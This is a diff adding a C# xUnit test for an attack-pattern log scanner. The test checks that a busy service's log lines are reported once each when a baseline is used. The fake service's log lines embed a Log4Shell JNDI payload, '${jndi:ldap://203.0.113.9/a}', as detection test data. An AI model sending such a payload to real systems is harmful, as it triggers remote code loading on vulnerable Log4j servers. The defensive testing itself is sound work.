@@ -31,6 +31,21 @@ public sealed class AttackServiceTests : IDisposable
         Assert.Empty(OpsRun.Of("Find-OpsAttackPattern -Until 1h", _folder).Objects);
     }
 
+    [Fact]
+    public async Task With_a_baseline_every_line_of_a_busy_service_is_shown_once()
+    {
+        await DockerFixture.RunAsync(_project, "api", "i=0; trap 'exit 0' TERM; while :; do echo \"request $i \\${jndi:ldap://203.0.113.9/a}\"; i=$((i+1)); sleep 0.02; done");
+        var seen = new List<int>();
+        for (int runs = 0; runs < 4 || seen.Count < 50; runs++)
+        {
+            Assert.True(runs < 100);
+            OpsRun run = OpsRun.Of("Find-OpsAttackPattern api -Baseline attacks.json", _folder);
+            Assert.Empty(run.Errors);
+            seen.AddRange(run.Objects.Select(m => int.Parse(((AttackMatch)m).Raw.Split(' ')[1])));
+        }
+        Assert.Equal(Enumerable.Range(0, seen.Count), seen);
+    }
+
     private static string Say(string target) =>
         $"echo '203.0.113.7 - - [21/Nov/2026:03:16:00 +0000] \"GET {target} HTTP/1.1\" 200 512 \"-\" \"-\"'; trap 'exit 0' TERM; while :; do sleep 0.2; done";
 
